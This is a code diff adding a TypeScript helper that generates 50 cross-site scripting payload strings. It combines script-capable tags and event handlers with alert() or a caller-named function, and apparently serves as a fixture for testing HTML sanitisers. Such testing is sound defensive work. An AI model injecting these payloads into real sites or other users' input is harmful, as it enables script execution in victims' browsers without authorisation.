@@ -1,0 +1,22 @@
+const tags = [
+  'script',
+  'img src=x onerror',
+  'svg/onload',
+  'iframe srcdoc',
+  'body onload',
+  'a href=javascript:',
+  'math',
+  'style',
+  'object data',
+  'details open ontoggle',
+];
+
+/** 50 script payloads; those that are longest call the function of this name. */
+export const payloadsWith = (called: string): string[] =>
+  tags.flatMap((tag, at) => [
+    `<${tag}=alert(${at})>`,
+    `"><${tag}>${called}(${at})</${tag}>`,
+    `'-alert(${at})-'<${tag}`,
+    `\${alert(${at})}{{${tag}}}`,
+    `javascript:${called}(${at})//<${tag}`,
+  ]);
